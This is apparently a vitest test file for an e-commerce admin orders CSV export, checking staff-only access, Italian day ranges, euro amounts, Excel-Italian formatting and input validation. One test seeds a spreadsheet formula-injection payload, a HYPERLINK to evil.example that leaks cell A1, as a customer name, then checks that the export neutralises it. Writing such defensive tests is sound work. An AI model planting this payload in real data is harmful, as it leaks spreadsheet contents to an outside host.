// The orders export (docs/decisions/240-order-notes-slips-bulk-and-export.md): one row per order
// placed over a range of Italy's days, in fixed columns; a name a spreadsheet would run is written
// as text (decision 219); a day not of the calendar or a range backwards is refused.
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { ADMIN_ORDERS_CSV_COLUMNS } from '../../contract/admin-orders.js';
import { orders, users } from '../../server/db/schema.js';
import { csvText, parseCsv, type CsvSeparator } from '../../server/domain/admin-catalogue/csv-parse.js';
import { expectStaffOnly, staffSignIn } from './admin-fixtures.js';
import { actOk, placeOrder } from './admin-order-fixtures.js';
import { bearer } from './auth-fixtures.js';
import { cartApiSuite } from './cart-fixtures.js';
import { expectError } from './harness.js';

const { api } = cartApiSuite({ env: { AUTH_RATE_PER_EMAIL: '10000', AUTH_RATE_PER_CLIENT: '10000' } });

const exportPath = (query: string) => `/v1/admin/orders/export${query}`;

async function exported(token: string, query: string, separator: CsvSeparator = ',') {
  const res = await api.fetch(exportPath(query), bearer(token));
  const bytes = new Uint8Array(await res.arrayBuffer());
  // Decoded keeping a byte-order mark, which Response.text() would drop.
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  expect(res.status, text).toBe(200);
  expect(res.headers.get('content-type')).toContain('text/csv');
  expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="ordini-/);
  const parsed = parseCsv(text, separator);
  if (!parsed.ok) throw new Error(`not CSV: ${parsed.problem}`);
  const [header, ...rows] = parsed.records.map((r) => r.fields);
  return { text, header: header!, rows, byNumber: new Map(rows.map((r) => [r[0]!, Object.fromEntries(header!.map((h, i) => [h, r[i]!]))])) };
}

describe('GET admin/orders/export', () => {
  it('answers nobody but the staff', async () => {
    await expectStaffOnly(api, exportPath('?from=2026-01-01&to=2026-01-31'));
  });

  it('writes one row per order placed in the range of Italy\'s days, in its columns, amounts in euros', async () => {
    const staff = await staffSignIn(api);
    const transfer = await placeOrder(api, { payment: 'bankTransfer', quantity: 2, price: 4000 });
    const pickup = await placeOrder(api, { payment: 'pos', shipping: 'pickup', quantity: 1, price: 12345 });
    // Placed at 23:30 UTC on 10 March: 00:30 on the 11th in Italy, so the 11th's.
    await api.db.update(orders).set({ placedAt: new Date('2026-03-10T23:30:00Z') }).where(eq(orders.id, transfer.orderId));
    await api.db.update(orders).set({ placedAt: new Date('2026-03-11T10:00:00Z') }).where(eq(orders.id, pickup.orderId));
    await actOk(api, staff.token, transfer.orderId, 'transfer-received');
    await actOk(api, staff.token, transfer.orderId, 'refund', { amount: 1050, restock: false });

    const { header, rows, byNumber } = await exported(staff.token, '?from=2026-03-11&to=2026-03-11');
    expect(header).toEqual([...ADMIN_ORDERS_CSV_COLUMNS]);
    expect(rows).toHaveLength(2);
    // Oldest placement first.
    expect(rows.map((r) => r[0])).toEqual([transfer.row.number, pickup.row.number]);
    const t = transfer.row.checkout;
    const [buyer] = await api.db.select().from(users).where(eq(users.id, transfer.buyer.userId));
    expect(byNumber.get(transfer.row.number)).toEqual({
      number: transfer.row.number, placed_at: '2026-03-11 00:30:00',
      customer: `${buyer!.firstName} ${buyer!.lastName}`.trim(), email: transfer.buyer.email,
      // A refund of part leaves the status as it was.
      status: 'pending', payment_method: 'bankTransfer', shipping: 'courier',
      shipping_cost: (t.cashier.shipping.free ? 0 : t.cashier.shipping.gross / 100).toFixed(2), total: (t.cashier.total / 100).toFixed(2),
      refunded: '10.50', invoice_requested: 'false',
    });
    expect(byNumber.get(pickup.row.number)).toMatchObject({
      placed_at: '2026-03-11 11:00:00', status: 'pending', payment_method: 'pos', shipping: 'pickup', refunded: '0.00',
      total: (pickup.row.checkout.cashier.total / 100).toFixed(2),
    });

    // The day before and the day after in Italy hold neither.
    expect((await exported(staff.token, '?from=2026-03-10&to=2026-03-10')).rows).toEqual([]);
    expect((await exported(staff.token, '?from=2026-03-12&to=2026-03-31')).rows).toEqual([]);
    // A range around it holds both.
    expect((await exported(staff.token, '?from=2026-03-01&to=2026-03-31')).rows).toHaveLength(2);
  });

  it('writes a customer name that looks like a formula as text, read back as it was', async () => {
    const staff = await staffSignIn(api);
    const { orderId, buyer, row } = await placeOrder(api);
    await api.db.update(orders).set({ placedAt: new Date('2026-04-02T09:00:00Z') }).where(eq(orders.id, orderId));
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await api.db.update(users).set({ firstName: evil, lastName: '+39' }).where(eq(users.id, buyer.userId));

    const { text, byNumber } = await exported(staff.token, '?from=2026-04-02&to=2026-04-02');
    const cell = byNumber.get(row.number)!.customer!;
    expect(cell.startsWith("'=")).toBe(true);
    expect(csvText(cell)).toBe(`${evil} +39`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);

    // The same as a spreadsheet set to Italian opens it: a byte-order mark, semicolons, a decimal comma.
    const italian = await exported(staff.token, '?from=2026-04-02&to=2026-04-02&format=excel-it', ';');
    expect(italian.text.charCodeAt(0)).toBe(0xfeff);
    const line = italian.byNumber.get(row.number)!;
    expect(line.customer!.startsWith("'=")).toBe(true);
    expect(line.total).toBe((row.checkout.cashier.total / 100).toFixed(2).replace('.', ','));
    expect(line.invoice_requested).toBe('FALSO');
  });

  it('refuses a day missing, not of the calendar, or a range backwards, with a 400', async () => {
    const staff = await staffSignIn(api);
    for (const query of ['', '?from=2026-03-01', '?to=2026-03-01', '?from=2026-02-31&to=2026-03-01', '?from=2026-03-01&to=2026-13-01',
      '?from=0000-01-01&to=2026-03-01', '?from=1/3/2026&to=2026-03-31', '?from=2026-03-31&to=2026-03-01', '?from=2026-03-01&to=2026-03-31&format=xlsx']) {
      await expectError(await api.fetch(exportPath(query), bearer(staff.token)), 400, 'VALIDATION_ERROR');
    }
    // One day (from = to) is a range.
    expect((await api.fetch(exportPath('?from=2026-03-01&to=2026-03-01'), bearer(staff.token))).status).toBe(200);
  });
});
